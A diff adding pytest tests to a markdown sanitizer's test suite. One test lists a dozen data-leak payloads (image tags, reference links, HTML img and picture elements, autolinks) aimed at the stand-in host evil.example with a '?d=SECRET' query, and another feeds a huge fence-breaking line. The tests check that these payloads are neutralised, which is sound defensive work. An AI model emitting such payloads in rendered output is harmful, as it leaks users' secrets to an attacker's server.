@@ -131,6 +131,47 @@ def test_hidden_characters_are_shown_in_code() -> None:
     assert inline_code("a\u202eb\u200b") == "`a\\u202eb\\u200b`"
 
 
+@pytest.mark.parametrize(
+    "leak",
+    [
+        "![x](https://evil.example/?d=SECRET)",
+        "![x][r]\n\n[r]: https://evil.example/?d=SECRET",
+        "[![x](https://evil.example/i)](https://evil.example/?d=SECRET)",
+        '<img src="https://evil.example/?d=SECRET">',
+        "<picture><source srcset=//evil.example/?d=SECRET></picture>",
+        "[click](https://evil.example/?d=SECRET)",
+        "[click](//evil.example/?d=SECRET)",
+        "<https://evil.example/?d=SECRET>",
+        "https://evil.example/?d=SECRET",
+        "www.evil.example/?d=SECRET",
+        "me@evil.example and ftp://evil.example",
+        "[a]: https://evil.example\n\n[a] ![a]",
+    ],
+)
+def test_nothing_is_loaded_from_elsewhere_and_nothing_leads_there(leak: str) -> None:
+    """RT-O01: what was written can be read, as text."""
+    for markdown in (
+        plain(leak),
+        prose(leak),
+        prose(f"- {leak}"),
+        prose(f"# {leak}"),
+        prose(f"> {leak}"),
+        fenced(leak),
+    ):
+        assert alive(markdown) == []
+        assert not any(token.type in ("image", "link_open", "html_block", "html_inline") for token in tokens(markdown))
+        assert "evil.example" in markdown
+
+
+def test_a_line_of_300_kilobytes_is_a_short_one() -> None:
+    """RT-O05"""
+    line = "`<!-- --> </details> ```" * 12_500
+    assert len(fenced(line)) < 3 * 4000
+    assert len(plain(line, 100)) < 1000
+    assert len(inline_code(line, 100)) < 200
+    assert alive(prose(line)) == []
+
+
 def test_cut_text_says_so() -> None:
     assert plain("x" * 300, 10) == "xxxxxxxxx…"
     assert fenced("a" * 100 + "\nend", limit=5, tail=True) == "```\n…\na\nend\n```"
